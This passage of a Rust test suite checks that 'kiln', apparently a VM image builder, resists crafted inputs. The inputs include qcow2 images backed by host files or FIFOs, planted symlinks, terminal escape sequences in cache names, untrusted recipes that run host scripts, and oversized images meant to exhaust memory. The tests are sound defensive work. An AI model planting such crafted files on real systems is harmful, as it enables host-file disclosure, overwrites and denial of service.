    assert!(!dir.path().join("cache").exists(), "nothing was started");
}

#[test]
fn plan_files_hold_no_password_hash_and_only_the_owner_reads_them() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let hash = "$6$plansalt$Yx0kLQ7cJz2Bq9vW0f1mTgZ0lQ3xR8sH5nA2pD4eK6uV9wC1yE7iO3aS5dF8gH0jK2lM4n";
    let recipe = example_copy(dir.path(), |t| {
        t.replace(
            "      - name: alice\n",
            &format!("      - name: alice\n        password_hash: \"{hash}\"\n"),
        )
    });
    let o = kiln_in(
        &["plan", recipe.to_str().unwrap(), "--render-dir", "p"],
        dir.path(),
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let p = dir.path().join("p");
    assert_eq!(
        std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
        0o700
    );
    let mut saw_redaction = false;
    for e in std::fs::read_dir(&p).unwrap() {
        let f = e.unwrap().path();
        assert_eq!(
            std::fs::metadata(&f).unwrap().permissions().mode() & 0o777,
            0o600,
            "{}",
            f.display()
        );
        let t = std::fs::read_to_string(&f).unwrap();
        assert!(!t.contains(hash), "{} holds the hash", f.display());
        saw_redaction |= t.contains(kiln::plan::REDACTED_HASH);
    }
    assert!(saw_redaction, "provision.sh shows where the hash goes");
}

/// A source's backing file could name any host file (issue 12): refused, nothing published.
#[test]
fn a_source_image_with_a_backing_file_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("host-secret"), vec![b'S'; 1 << 20]).unwrap();
    // A qcow2 named .raw whose backing file is a host file.
    let st = Command::new("qemu-img")
        .args(["create", "-q", "-f", "qcow2", "-F", "raw", "-b"])
        .arg(dir.path().join("host-secret"))
        .arg(dir.path().join("disk.raw"))
        .status()
        .unwrap();
    assert!(st.success());
    std::fs::write(
        dir.path().join("r.yaml"),
        "name: t\nsource:\n  image: {path: disk.raw}\n",
    )
    .unwrap();
    let o = kiln_in(
        &["build", "r.yaml", "-o", "out", "--cache-dir", "cache"],
        dir.path(),
    );
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("has a backing file"), "{err}");
    assert!(!dir.path().join("out/t-0").exists(), "nothing published");
}

/// `kiln` with `args` in `cwd`, killed (and the test failed) if it runs past 60 s: a FIFO
/// opened the ordinary way would block for ever.
fn kiln_bounded(args: &[&str], cwd: &Path) -> std::process::Output {
    let mut cmd = kiln();
    cmd.args(args).current_dir(cwd);
    bounded(cmd, args)
}

/// `cmd` to completion, killed (and the test failed) past 60 s.
fn bounded(mut cmd: Command, args: &[&str]) -> std::process::Output {
    let mut child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > std::time::Duration::from_secs(60) {
            child.kill().unwrap();
            panic!("kiln {args:?} hung");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

/// Crafted images (issue 24): a qcow2 whose backing file is a host file, or a FIFO, is read by
/// no reader (kiln's, qemu-img's, libguestfs') unless the user names that file: `inspect`,
/// `diff`, `convert`, `sysprep` and `test` exit 2 at once, saying which file and how to allow
/// it, and nothing of the host file reaches their output.
#[test]
fn crafted_backing_files_are_followed_by_no_command() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let canary = "KILN-CANARY-4f2a9c";
    std::fs::write(d.join("host-secret"), canary.repeat(1 << 14)).unwrap();
    let fifo = d.join("fifo");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    for (image, backing) in [("evil.qcow2", "host-secret"), ("stuck.qcow2", "fifo")] {
        let st = Command::new("qemu-img")
            .args(["create", "-q", "-f", "qcow2", "-u", "-F", "raw", "-b"])
            .arg(d.join(backing))
            .arg(d.join(image))
            .arg("1M")
            .status()
            .unwrap();
        assert!(st.success());
    }
    std::fs::write(d.join("other.raw"), vec![0u8; 1 << 20]).unwrap();
    for image in ["evil.qcow2", "stuck.qcow2"] {
        for args in [
            vec!["inspect", image],
            vec!["diff", image, "other.raw"],
            vec!["convert", image, "-O", "raw", "-o", "out.raw"],
            vec!["sysprep", "-a", image, "--dry-run"],
            vec!["test", image],
        ] {
            let o = kiln_bounded(&args, d);
            let (out, err) = (text(&o.stdout), text(&o.stderr));
            assert_eq!(o.status.code(), Some(2), "{args:?}: {err}");
            assert!(
                err.contains("only when you name it too (--backing"),
                "{args:?}: {err}"
            );
            assert!(!out.contains(canary) && !err.contains(canary), "{args:?}");
            assert!(!d.join("out.raw").exists(), "{args:?}");
        }
    }
    // The FIFO itself as the image: not opened.
    let o = kiln_bounded(&["inspect", "fifo"], d);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    // Named, a backing file is followed (here the host file, which the user chose to read).
    let o = kiln_bounded(
        &[
            "convert",
            "evil.qcow2",
            "-O",
            "raw",
            "-o",
            "out.raw",
            "--backing",
            "host-secret",
        ],
        d,
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let raw = std::fs::read(d.join("out.raw")).unwrap();
    assert!(raw.starts_with(canary.as_bytes()));
}

/// `kiln plan` in a directory others can write (issue 24): a planted `NAME.plan` symlink is
/// not written into or chmodded; planted file links in kiln's own render directory are
/// replaced, not written through.
#[test]
fn plan_writes_through_no_planted_link() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("r.yaml"),
        "name: t\nsource:\n  image: {path: disk.raw}\n",
    )
    .unwrap();
    std::fs::write(d.join("disk.raw"), vec![0u8; 1 << 20]).unwrap();
    let victim = d.join("victim");
    std::fs::create_dir(&victim).unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(victim.join("user-data"), "precious").unwrap();
    std::os::unix::fs::symlink(&victim, d.join("t-0.plan")).unwrap();
    let o = kiln_in(&["plan", "r.yaml"], d);
    assert_ne!(o.status.code(), Some(0), "{}", text(&o.stdout));
    assert!(
        text(&o.stderr).contains("not a directory of its own"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(
        std::fs::read(victim.join("user-data")).unwrap(),
        b"precious"
    );
    let mode = std::fs::metadata(&victim).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o755, "chmodded through the link");
    // Its own directory, with a file planted as a link: the link is replaced.
    std::fs::remove_file(d.join("t-0.plan")).unwrap();
    std::fs::create_dir(d.join("t-0.plan")).unwrap();
    std::os::unix::fs::symlink(victim.join("user-data"), d.join("t-0.plan/user-data")).unwrap();
    let o = kiln_in(&["plan", "r.yaml"], d);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(
        std::fs::read(victim.join("user-data")).unwrap(),
        b"precious"
    );
    assert!(std::fs::symlink_metadata(d.join("t-0.plan/user-data"))
        .unwrap()
        .is_file());
}

/// What another user of a shared cache wrote reaches the terminal escaped (issue 24): an entry
/// whose stage and file names carry an escape sequence and a right-to-left override.
#[test]
fn cache_listings_print_planted_escapes_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let key = "ab".repeat(32);
    let entry = dir.path().join("stages").join(&key);
    std::fs::create_dir_all(&entry).unwrap();
    let evil = "s\u{1b}]0;pwned\u{7}\u{202e}txt";
    std::fs::write(entry.join(evil), "x").unwrap();
    let meta = serde_json::json!({"stage": evil, "key": key, "created": 0, "files": [evil],
        "size": 1});
    std::fs::write(entry.join("meta.json"), meta.to_string()).unwrap();
    let cache = dir.path().to_str().unwrap();
    for args in [
        vec!["cache", "--cache-dir", cache, "list"],
        vec!["cache", "--cache-dir", cache, "show", &key[..8]],
    ] {
        let o = kiln_in(&args, dir.path());
        let out = text(&o.stdout);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", text(&o.stderr));
        assert!(
            out.contains("\\u{1b}]0;pwned\\u{7}\\u{202e}txt"),
            "{args:?}: {out}"
        );
        assert!(
            !out.contains('\u{1b}') && !out.contains('\u{202e}'),
            "{args:?}"
        );
    }
}

/// The trust model (issue 24): an untrusted recipe (the default) that runs host scripts,
/// brings its own domain template, reads host files outside its directory or has an element
/// file linked to a host file gets every such use reported at its position, exit 2, before
/// anything runs, and no line of the linked file is shown; trusted (`--trust-recipe`), the
/// same recipe validates, but a domain template that drops kiln's security label still does
/// not.
#[test]
fn an_untrusted_recipe_reaches_nothing_of_the_host() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let canary = "KILN-CANARY-71b3e0: root:$6$secret";
    std::fs::write(d.join("host-secret"), format!("{canary}\n{canary}\n")).unwrap();
    std::fs::create_dir_all(d.join("recipe/elements/evil")).unwrap();
    std::os::unix::fs::symlink(
        d.join("host-secret"),
        d.join("recipe/elements/evil/element.yaml"),
    )
    .unwrap();
    // kiln's own domain template, as a user would start one of their own.
    let domain = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/domain.xml.hbs"),
    )
    .unwrap();
    std::fs::write(d.join("recipe/domain.xml.hbs"), &domain).unwrap();
    let host_file = d.join("host-secret");
    let r = d.join("recipe/r.yaml");
    let recipe = |elements: &str| {
        format!(
            "name: t\nsource:\n  bootstrap: {{distro: debian, suite: bookworm, packages: [cloud-init]}}\n\
             elements: [{elements}]\n\
             customize:\n  - upload: \"{}:/etc/x\"\n\
             sysprep:\n  scripts: [\"touch /tmp/owned\"]\n\
             templates:\n  domain: domain.xml.hbs\n",
            host_file.display()
        )
    };
    std::fs::write(&r, recipe("evil")).unwrap();
    let o = kiln_in(&["validate", "r.yaml"], &d.join("recipe"));
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    for want in [
        "elements/evil/element.yaml:1:1: cannot read element: it is a link out of the element's directory",
        "r.yaml:6:13: ",
        "outside the recipe's directory",
        "r.yaml:8:12: sysprep scripts run on this host",
        "r.yaml:10:11: a domain template of the recipe's own",
    ] {
        assert!(err.contains(want), "missing {want:?} in:\n{err}");
    }
    assert!(!err.contains("KILN-CANARY"), "{err}");
    // Trusted: the same recipe without the linked element validates; plan says so.
    std::fs::write(&r, recipe("")).unwrap();
    let o = kiln_in(&["validate", "r.yaml", "--trust-recipe"], &d.join("recipe"));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let o = kiln_in(
        &["plan", "r.yaml", "--trust-recipe", "--render-dir", "p"],
        &d.join("recipe"),
    );
    assert!(
        text(&o.stdout).contains("trust: trusted"),
        "{}",
        text(&o.stdout)
    );
    // Even trusted, a domain template may not drop the DAC label kiln's template sets.
    std::fs::write(
        d.join("recipe/domain.xml.hbs"),
        domain.replace("<seclabel type='static'", "<seclabel type='none'"),
    )
    .unwrap();
    let o = kiln_in(&["validate", "r.yaml", "--trust-recipe"], &d.join("recipe"));
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("may not change security labels"), "{err}");
}

/// The user's configuration can trust a directory of recipes (issue 24), but only as a file
/// nobody else could have written: group- or world-writable, or a link, it is refused (exit 2),
/// and a relative directory is an error at its position.
#[test]
fn a_configured_trusted_directory_counts_only_from_a_file_of_the_users() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir_all(d.join("recipes")).unwrap();
    std::fs::write(
        d.join("recipes/r.yaml"),
        "name: t\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\n\
         sysprep:\n  scripts: [\"true\"]\n",
    )
    .unwrap();
    let config = d.join("config.yaml");
    let validate = || {
        kiln()
            .args(["validate", "recipes/r.yaml"])
            .env("KILN_CONFIG", &config)
            .current_dir(d)
            .output()
            .unwrap()
    };
    let o = validate();
    assert_eq!(o.status.code(), Some(2), "no config file: untrusted");
    assert!(text(&o.stderr).contains("sysprep scripts run on this host"));
    std::fs::write(
        &config,
        format!("trusted_recipes:\n  - {}\n", d.join("recipes").display()),
    )
    .unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    let o = validate();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o666)).unwrap();
    let o = validate();
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("config.yaml:1:1: not used") && err.contains("writable by no one else"),
        "{err}"
    );
    std::fs::write(&config, "trusted_recipes:\n  - recipes\nextra: 1\n").unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o600)).unwrap();
    let o = validate();
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("config.yaml:2:5: expected an absolute directory path"),
        "{err}"
    );
    assert!(err.contains("config.yaml:3:1: unknown setting"), "{err}");
}

/// A root tree from someone else (issue 24): `var/lib` linked to a host directory must not make
/// `kiln diff` read the host's package database.
#[test]
fn kiln_diff_reads_no_host_file_through_a_tree_link() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let pkg = |name: &str| {
        format!(
            "Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n\n"
        )
    };
    for side in ["a", "b"] {
        std::fs::create_dir_all(d.join(side).join("etc")).unwrap();
    }
    std::fs::create_dir_all(d.join("a/var/lib/dpkg")).unwrap();
    std::fs::write(d.join("a/var/lib/dpkg/status"), pkg("bash")).unwrap();
    std::fs::create_dir_all(d.join("host/lib/dpkg")).unwrap();
    std::fs::write(
        d.join("host/lib/dpkg/status"),
        pkg("bash") + &pkg("host-canary"),
    )
    .unwrap();
    std::fs::create_dir_all(d.join("b/var")).unwrap();
    std::os::unix::fs::symlink(d.join("host/lib"), d.join("b/var/lib")).unwrap();
    let o = kiln_in(&["diff", "a", "b", "--format", "json"], d);
    let out = text(&o.stdout);
    assert!(!out.contains("host-canary"), "{out}");
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
}

/// `kiln ARGS` under a 2 GiB address-space limit and the 60 s bound of `bounded`.
fn kiln_limited(args: &[&str], cwd: &Path) -> std::process::Output {
    let mut cmd = Command::new("prlimit");
    cmd.args(["--as=2147483648", "--", env!("CARGO_BIN_EXE_kiln")])
        .args(args)
        .current_dir(cwd)
        .env_remove("KILN_ELEMENTS_PATH");
    bounded(cmd, args)
}

/// A corpus of crafted inputs (issue 24), each through the command that reads it under a
/// memory limit and a time bound: an ext4 file claiming 64 GiB, a qcow2 claiming an L1 table
/// of 2^31 entries, a 3 GB "recipe", /dev/zero and a FIFO as templates, a FIFO meta.json in
/// the cache. No hang, no abort (134) or panic (101), no more memory than the limit.
#[test]
fn crafted_inputs_are_refused_within_bounds() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let run = |prog: &str, args: &[&str]| {
        let o = Command::new(prog)
            .args(args)
            .current_dir(d)
            .output()
            .unwrap();
        assert!(o.status.success(), "{prog} {args:?}: {}", text(&o.stderr));
    };
    // An ext4 root whose /etc/passwd claims 64 GiB (debugfs sets the inode's size).
    std::fs::create_dir_all(d.join("tree/etc")).unwrap();
    std::fs::write(d.join("tree/etc/os-release"), "ID=debian\nVERSION_ID=12\n").unwrap();
    std::fs::write(d.join("tree/etc/fstab"), "").unwrap();
    std::fs::write(d.join("tree/etc/passwd"), "root:x:0:0::/root:/bin/sh\n").unwrap();
    run(
        "mke2fs",
        &["-q", "-t", "ext4", "-d", "tree", "fs.raw", "16M"],
    );
    run(
        "debugfs",
        &["-w", "-R", "sif /etc/passwd size 68719476736", "fs.raw"],
    );
    // The same root whose os-release claims 64 GiB: the host reader's first read (it aborted
    // allocating the claim; found by bench/fuzz-coverage.sh).
    std::fs::copy(d.join("fs.raw"), d.join("osr.raw")).unwrap();
    run(
        "debugfs",
        &[
            "-w",
            "-R",
            "sif /etc/os-release size 68719476736",
            "osr.raw",
        ],
    );
    // Directories hard-linked into two places, 30 deep: 2^30 paths to walk (it walked for
    // more than 10 minutes and 2 GB before a walk was bounded by the inodes there are).
    std::fs::create_dir_all(d.join("dag/etc")).unwrap();
    for f in ["os-release", "fstab"] {
        std::fs::copy(d.join("tree/etc").join(f), d.join("dag/etc").join(f)).unwrap();
    }
    let mut links = String::new();
    for i in 0..=30 {
        std::fs::create_dir(d.join(format!("dag/d{i}"))).unwrap();
        if i > 0 {
            links += &format!("link /d{i} /d{}/x\nlink /d{i} /d{}/y\n", i - 1, i - 1);
        }
    }
    std::fs::write(d.join("links"), links).unwrap();
    run(
        "mke2fs",
        &["-q", "-t", "ext4", "-d", "dag", "dag.raw", "16M"],
    );
    run("debugfs", &["-w", "-f", "links", "dag.raw"]);
    // A qcow2 whose header claims 2^31 L1 entries (16 GiB of table).
    run(
        "qemu-img",
        &["create", "-q", "-f", "qcow2", "l1.qcow2", "1G"],
    );
    let mut q = std::fs::read(d.join("l1.qcow2")).unwrap();
    q[36..40].copy_from_slice(&(1u32 << 31).to_be_bytes());
    std::fs::write(d.join("l1.qcow2"), q).unwrap();
    // A 3 GB recipe (sparse) and templates that never end or never open.
    let big = std::fs::File::create(d.join("big.yaml")).unwrap();
    big.set_len(3 << 30).unwrap();
    let fifo = d.join("fifo.hbs");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    std::fs::write(d.join("disk.raw"), vec![0u8; 1 << 20]).unwrap();
    for (name, template) in [("zero.yaml", "/dev/zero"), ("fifo.yaml", "fifo.hbs")] {
        std::fs::write(
            d.join(name),
            format!("name: t\nsource:\n  image: {{path: disk.raw}}\ntemplates:\n  user_data: {template}\n"),
        )
        .unwrap();
    }
    // A cache entry whose meta.json is a FIFO.
    let entry = d.join("cache/stages").join("ab".repeat(32));
    std::fs::create_dir_all(&entry).unwrap();
    let c = std::ffi::CString::new(entry.join("meta.json").to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let cache = d.join("cache");
    let cache = cache.to_str().unwrap();
    for (args, codes) in [
        (vec!["inspect", "fs.raw"], vec![0, 1, 2]),
        (vec!["inspect", "l1.qcow2"], vec![2]),
        (vec!["inspect", "osr.raw"], vec![1, 2]),
        (vec!["diff", "fs.raw", "fs.raw", "--checksum"], vec![0, 2]),
        (vec!["diff", "dag.raw", "dag.raw"], vec![2]),
        (vec!["validate", "big.yaml"], vec![2]),
        (vec!["validate", "zero.yaml", "--trust-recipe"], vec![2]),
        (vec!["validate", "fifo.yaml"], vec![2]),
        (vec!["cache", "--cache-dir", cache, "list"], vec![0]),
    ] {
        let o = kiln_limited(&args, d);
        let code = o.status.code();
        assert!(
            code.is_some_and(|c| codes.contains(&c)),
            "{args:?}: {code:?} {}",
            text(&o.stderr)
        );
    }
}

#[test]
fn checksum_lists_over_plain_http_are_refused_but_loopback() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path().join("r.yaml");
    for (url, ok) in [
        ("http://mirror.example/SHA256SUMS", false),
        ("https://mirror.example/SHA256SUMS", true),
        ("http://127.0.0.1:8000/SHA256SUMS", true),
    ] {
        std::fs::write(
            &r,
            format!("name: t\nsource:\n  image:\n    url: https://mirror.example/disk.img\n    checksum: \"file:{url}\"\n"),
        )
        .unwrap();
        let o = kiln_in(&["validate", "r.yaml"], dir.path());
        let err = text(&o.stderr);
        assert_eq!(
            o.status.code(),
            Some(if ok { 0 } else { 2 }),
            "{url}: {err}"
        );
        if !ok {
            assert!(
                err.contains("r.yaml:5:15: a checksum list must come over https"),
                "{err}"
            );
        }
    }
}

/// `kiln cache` over a store with a chain of entries (made with the library, as builds make
/// them): list, show by prefix, prune in dependency order, clear; `kiln plan` shows each
/// stage's key and the hit.
#[test]
fn kiln_cache_lists_shows_prunes_and_clears_and_plan_shows_hits() {
    use kiln::stagecache::{derive, Store};
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let store = Store::new(&cache);
    let file = |n: &str, len: usize| {
        let p = dir.path().join(n);
        std::fs::write(&p, vec![1u8; len]).unwrap();
        p
    };
    let k1 = derive("provision", 1, None, &serde_json::json!("a"));
    let k2 = derive("guestfs", 1, Some(&k1), &serde_json::json!("b"));
    let k3 = derive("convert", 1, Some(&k2), &serde_json::json!("c"));
    store
        .commit(
            "provision",
            &k1,
            None,
            &[(file("1", 40_000), "disk.qcow2")],
            serde_json::json!({}),
        )
        .unwrap();
    store
        .commit(
            "guestfs",
            &k2,
            Some(&k1),
            &[(file("2", 8_000), "disk.qcow2")],
            serde_json::json!({}),
        )
        .unwrap();
    store
        .commit(
            "convert",
            &k3,
            Some(&k2),
            &[(file("3", 90_000), "output")],
            serde_json::json!({}),
        )
        .unwrap();
    let c = cache.to_str().unwrap();
    let out = kiln_in(&["cache", "--cache-dir", c, "list"], dir.path());
    let list = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    for (k, stage) in [(&k1, "provision"), (&k2, "guestfs"), (&k3, "convert")] {
        assert!(
            list.lines()
                .any(|l| l.starts_with(k.short()) && l.contains(stage)),
            "{list}"
        );
    }
    assert!(list.contains("3 entries"), "{list}");
    let out = kiln_in(
        &["cache", "--cache-dir", c, "show", &k2.0[..10]],
        dir.path(),
    );
    let shown = text(&out.stdout);
    assert!(shown.contains(&format!("builds on:  {}", k1.0)), "{shown}");
    let out = kiln_in(&["cache", "--cache-dir", c, "show", "zz"], dir.path());
    assert_eq!(out.status.code(), Some(2));
    // Pruning to nothing goes from the top of the chain down.
    let out = kiln_in(&["cache", "--cache-dir", c, "prune", "0"], dir.path());
    let pruned = text(&out.stdout);
    let order: Vec<&str> = pruned
        .lines()
        .filter_map(|l| l.strip_prefix("evicted "))
        .map(|l| l.split(" (").nth(1).unwrap().split(',').next().unwrap())
        .collect();
    assert_eq!(order, ["convert", "guestfs", "provision"], "{pruned}");
    let out = kiln_in(&["cache", "--cache-dir", c, "list"], dir.path());
    assert!(text(&out.stdout).contains("0 entries"));
    let out = kiln_in(&["cache", "--cache-dir", c, "clear"], dir.path());
    assert!(out.status.success());
    let out = kiln_in(&["cache", "--cache-dir", c, "prune", "lots"], dir.path());
    assert_eq!(out.status.code(), Some(2));

    // plan: keys for every cached stage, all misses in an empty cache.
    let recipe = root().join("examples/debian-12.yaml");
    let out = kiln_in(
        &[
            "plan",
            recipe.to_str().unwrap(),
            "--cache-dir",
            c,
            "--render-dir",
            "r",
        ],
        dir.path(),
    );
    let plan = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    for stage in ["provision", "cloud-init", "sysprep", "convert"] {
        assert!(
            plan.lines().any(|l| l
                .trim_start()
                .starts_with(&format!("{stage}  (cache miss "))),
            "{stage}: {plan}"
        );
    }
}

/// Stage cache invalidation, one kind of input at a time (issue 13): `kiln plan` shows the
/// keys `build` uses (the same functions); exactly the stages whose result the change can
/// alter get new keys, from the first such stage on.
#[test]
fn each_kind_of_input_changes_exactly_the_stage_keys_it_can_change() {
    let dir = tempfile::tempdir().unwrap();
    let src = std::fs::read_to_string(root().join("examples/debian-12.yaml")).unwrap();
    std::fs::create_dir_all(dir.path().join("files")).unwrap();
    std::fs::create_dir_all(dir.path().join("elements/extra")).unwrap();
    let hello = std::fs::read(root().join("examples/files/hello.sh")).unwrap();
    let base = src.replace(
        "elements: [debian, cloud-init, growroot, qemu-guest-agent, sysprep-default]",
        "elements: [debian, cloud-init, growroot, qemu-guest-agent, sysprep-default, extra]",
    );
    assert_ne!(base, src);
    let element = "description: test\nprovision:\n  - files:\n      - {path: /etc/extra, source: extra.txt}\n";
    let user_data = std::fs::read_to_string(root().join("templates/user-data.hbs")).unwrap();
    // (name, recipe text, files to write, --var, stages whose keys must change)
    type Case<'a> = (
        &'a str,
        String,
        Vec<(&'a str, Vec<u8>)>,
        Vec<&'a str>,
        Vec<&'a str>,
    );
    // Every stage with a key, in build order.
    const KEYED: [&str; 6] = [
        "source",
        "provision",
        "cloud-init",
        "sysprep",
        "convert",
        "test",
    ];
    let after = |from: &str| -> Vec<&'static str> {
        KEYED[KEYED.iter().position(|s| *s == from).unwrap()..].to_vec()
    };
    let same_files = || {
        vec![
            ("files/hello.sh", hello.clone()),
            ("elements/extra/element.yaml", element.as_bytes().to_vec()),
            ("elements/extra/extra.txt", b"one\n".to_vec()),
        ]
    };
    let with = |f: &str, c: &[u8]| {
        let mut v = same_files();
        v.retain(|(n, _)| *n != f);
        v.push((
            Box::leak(f.to_string().into_boxed_str()) as &str,
            c.to_vec(),
        ));
        v
    };
    let cases: Vec<Case> = vec![
        ("baseline", base.clone(), same_files(), vec![], vec![]),
        (
            "a provision step",
            base.replace("packages: [tree]", "packages: [htop]"),
            same_files(),
            vec![],
            after("provision"),
        ),
        (
            "a copied file's content",
            base.clone(),
            with("files/hello.sh", b"echo changed\n"),
            vec![],
            after("provision"),
        ),
        (
            "an element's file",
            base.clone(),
            with("elements/extra/extra.txt", b"two\n"),
            vec![],
            after("provision"),
        ),
        (
            "an element's packages",
            base.clone(),
            with(
                "elements/extra/element.yaml",
                format!("{element}packages: [jq]\n").as_bytes(),
            ),
            vec![],
            after("source"),
        ),
        (
            "a template",
            base.replace("publish:\n", "templates: {user_data: ud.hbs}\npublish:\n"),
            {
                let mut v = same_files();
                v.push(("ud.hbs", format!("{user_data}# changed\n").into_bytes()));
                v
            },
            vec![],
            after("provision"),
        ),
        (
            "a --var",
            base.clone(),
            same_files(),
            vec!["hostname=other"],
            after("provision"),
        ),
        (
            "a customize step",
            base.replace("Built by kiln", "Built by kiln!"),
            same_files(),
            vec![],
            after("cloud-init"),
        ),
        (
            "a sysprep option",
            base.replace(
                "operations: [defaults]",
                "operations: [defaults, -bash-history]",
            ),
            same_files(),
            vec![],
            after("cloud-init"),
        ),
        (
            "an output",
            base.replace(
                "{format: vmdk, subformat: monolithicSparse}",
                "{format: vmdk, subformat: streamOptimized}",
            ),
            same_files(),
            vec![],
            vec!["convert"],
        ),
        (
            "a publish setting",
            base.replace("dir: kiln-output", "dir: elsewhere"),
            same_files(),
            vec![],
            vec![],
        ),
        (
            // The boot test's VM: its verdict is tied to the size it ran with.
            "the VM's memory",
            base.replace("memory: 2G", "memory: 3G"),
            same_files(),
            vec![],
            vec!["test"],
        ),
    ];
    let mut baseline: Option<std::collections::BTreeMap<String, String>> = None;
    for (i, (name, recipe, files, vars, changed)) in cases.into_iter().enumerate() {
        assert!(
            i == 0 || recipe != base || !files.is_empty() || !vars.is_empty(),
            "{name}"
        );
        for (f, c) in &files {
            std::fs::write(dir.path().join(f), c).unwrap();
        }
        let r = dir.path().join(format!("r{i}.yaml"));
        std::fs::write(&r, &recipe).unwrap();
        let mut args = vec![
            "plan",
            r.to_str().unwrap(),
            "--format",
            "json",
            "--render-dir",
            "rd",
            "--cache-dir",
            "cache",
        ];
        let var_args: Vec<String> = vars.iter().map(|v| v.to_string()).collect();
        for v in &var_args {
            args.extend(["--var", v.as_str()]);
        }
        let out = kiln_in(&args, dir.path());
        assert!(out.status.success(), "{name}: {}", text(&out.stderr));
        let _ = std::fs::remove_dir_all(dir.path().join("rd"));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let keys: std::collections::BTreeMap<String, String> = v["stages"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|s| {
                Some((
                    s["name"].as_str()?.to_string(),
                    s["cache"]["key"].as_str()?.to_string(),
                ))
            })
            .collect();
        assert_eq!(
            keys.len(),
            KEYED.len(),
            "{name}: keys for every cached stage: {keys:?}"
        );
        let Some(b) = &baseline else {
            baseline = Some(keys);
            continue;
        };
        let mut got: Vec<&str> = keys
            .iter()
            .filter(|(s, k)| b.get(*s) != Some(k))
            .map(|(s, _)| s.as_str())
            .collect();
        got.sort_by_key(|s| KEYED.iter().position(|o| o == s));
        assert_eq!(got, changed, "{name}");
    }
}

#[test]
fn a_remote_cache_is_checked_before_the_build_starts() {
    let dir = tempfile::tempdir().unwrap();
    let recipe = example_copy(dir.path(), |t| {
        format!("{t}\ncache:\n  remote: s3://Bad_Bucket/x\n")
    });
    let r = recipe.to_str().unwrap();
    // A URL in the recipe that names no bucket: a validation error with its position.
    let out = kiln_in(&["validate", r], dir.path());
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(
        err.contains("debian-12.yaml:") && err.contains("`Bad_Bucket` is not a bucket name"),
        "{err}"
    );
    // A good URL without credentials: refused before anything is built, saying how to get them.
    let good = example_copy(dir.path(), |t| t);
    let mut cmd = kiln();
    cmd.current_dir(dir.path())
        .args([
            "build",
            good.to_str().unwrap(),
            "--cache-remote",
            "s3://kiln-cache",
        ])
        .env_remove("AWS_ACCESS_KEY_ID")
        .env_remove("AWS_SECRET_ACCESS_KEY")
        .env_remove("KILN_CACHE_REMOTE");
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(
        err.contains("--cache-remote")
            && err.contains("AWS_ACCESS_KEY_ID")
            && err.contains("openstack ec2 credentials create"),
        "{err}"
    );
    assert!(!dir.path().join("kiln-output").exists(), "nothing built");
    // --no-cache and --cache-remote contradict each other.
    let out = kiln_in(
        &[
            "build",
            good.to_str().unwrap(),
            "--no-cache",
            "--cache-remote",
            "s3://kiln-cache",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn boot_test_checks_are_validated_with_positions() {
    let dir = tempfile::tempdir().unwrap();
